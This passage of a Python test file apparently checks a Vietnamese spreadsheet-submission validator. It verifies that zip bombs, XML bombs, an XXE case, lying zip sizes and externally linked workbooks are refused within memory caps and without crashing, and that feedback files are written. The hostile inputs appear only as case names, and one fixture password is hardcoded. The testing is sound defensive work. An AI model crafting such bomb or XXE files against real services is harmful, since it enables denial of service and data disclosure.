    office = msoffcrypto.OfficeFile(io.BytesIO(path.read_bytes()))
    office.load_key(password="Matkhau@2020")
    office.decrypt(plain)
    decrypted = tmp_path / "23644_2020.xlsx"
    decrypted.write_bytes(plain.getvalue())
    assert read_submission(decrypted).status == "accepted"


# --- memory ---------------------------------------------------------------------------------------
# (Time is for benchmarks, not tests: the caps below are what keeps a bomb from costing time too.)
BOUNDS = {  # case -> peak traced MB
    "zip-bomb-300mb": 10,
    "zip-bomb-part": 100,  # one part is decompressed up to the 40 MB cap, then refused
    "zip-lying-sizes": 100,
    "zip-many-entries": 30,
    "xml-bomb-workbook": 10,
    "xml-bomb-metadata": 10,
    "xml-bomb-form": 10,
    "xxe-metadata": 10,
    "too-large": 2,  # refused from its size alone: never read
}


@pytest.mark.parametrize("name", list(BOUNDS))
def test_bombs_are_refused_within_the_memory_caps(corpus, name):
    case = corpus[name]
    peak_mb = BOUNDS[name]
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KB on Linux
    tracing = tracemalloc.is_tracing()
    if tracing:
        tracemalloc.reset_peak()
    else:
        tracemalloc.start()
    try:
        sub = read_submission(case.path)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        if not tracing:
            tracemalloc.stop()
    rss_growth_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024
    check_one(case, sub)
    assert peak < peak_mb * MB, f"{name}: peak {peak / MB:.1f} MB"
    assert rss_growth_mb < 150, f"{name}: RSS grew {rss_growth_mb:.0f} MB"


# --- all of them in one run ------------------------------------------------------------------------
def test_one_run_reports_every_file_and_accepts_the_clean_one(corpus, source, request, tmp_path):
    cases = all_cases(corpus, request)
    clean = source["clean"]
    names = list(cases)
    # The clean form sits in the middle and a copy at the end: nothing before it may stop the run.
    paths = [cases[n].path for n in names[: len(names) // 2]] + [clean] \
        + [cases[n].path for n in names[len(names) // 2:]]
    before = {p: sha256_file(p) for p in paths}
    report = validate(paths)
    write_feedback_files(report.submissions, tmp_path / "feedback")
    assert [s.path for s in report.submissions] == paths
    by_path = {s.path: s for s in report.submissions}
    assert by_path[clean].status == "accepted", [f.code for f in by_path[clean].findings]
    assert by_path[clean].unit_code == CLEAN_UNIT.unit_code
    for name, case in cases.items():
        check_one(case, by_path[case.path])
    stats = report.stats()
    assert stats["accepted"] == 1 and stats["rejected"] == 1
    assert stats["unreadable"] == len(cases) - 1
    assert not report.ok
    assert {p: sha256_file(p) for p in paths} == before
    assert (tmp_path / "feedback" / f"{CLEAN_UNIT.unit_code}_{PERIOD}_ket-qua-kiem-tra.xlsx").exists()


def test_cli_run_exits_1_without_traceback_and_writes_a_note_per_file(corpus, source, request, tmp_path):
    cases = all_cases(corpus, request)
    clean = source["clean"]
    paths = [c.path for c in cases.values()] + [clean]
    before = {p: sha256_file(p) for p in paths}
    fb = tmp_path / "gop-y"
    result = CliRunner().invoke(main, ["validate", *map(str, paths), "--feedback-dir", str(fb),
                                       "--json", str(tmp_path / "report.json")])
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), result.exc_info  # exit 1 by choice, not a crash
    assert "Traceback" not in result.output
    unreadable = [c for c in cases.values() if c.status == "unreadable"]
    assert f"{len(paths)} tệp: 1 đạt, 0 đạt có cảnh báo, 1 trả lại, {len(unreadable)} không đọc được" \
        in result.output
    for case in cases.values():
        assert str(case.path) in result.output and case.code in result.output

    report = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    status = {Path(f["path"]).name: f["status"] for f in report["files"]}
    assert status[clean.name] == "accepted"
    assert all(status[c.path.name] == c.status for c in cases.values())

    written = sorted(p.name for p in fb.iterdir())
    notes = {f"{c.path.stem}_khong-doc-duoc.txt": c for c in unreadable}
    books = {f"{CLEAN_UNIT.unit_code}_{PERIOD}_ket-qua-kiem-tra.xlsx",
             f"{HOSTILE_UNIT.unit_code}_{PERIOD}_ket-qua-kiem-tra.xlsx"}  # clean form, linked form
    assert written == sorted(set(notes) | books)
    for name, case in notes.items():
        raw = (fb / name).read_bytes()
        text = raw.decode("utf-8")  # strict UTF-8
        assert "KHÔNG ĐỌC ĐƯỢC" in text and case.path.name in text
        assert "Việc cần làm" in text and ".xlsx" in text  # what to send instead
        assert "Traceback" not in text
        (sub,) = [s for s in report["files"] if Path(s["path"]) == case.path]
        assert sub["findings"][0]["code"] in {case.code} | set(case.also)
        assert sub["findings"][0]["message"] in text
    for name in books:
        wb = openpyxl.load_workbook(fb / name)
        assert wb.sheetnames[0] == FEEDBACK_SHEET
    linked = openpyxl.load_workbook(fb / f"{HOSTILE_UNIT.unit_code}_{PERIOD}_ket-qua-kiem-tra.xlsx")
    titles = [linked[FEEDBACK_SHEET].cell(r, 2).value for r in range(12, 20)]  # "Vấn đề", second column
    assert CODES["external-links"][1] in titles  # listed by its title from the registry
    assert {p: sha256_file(p) for p in paths} == before
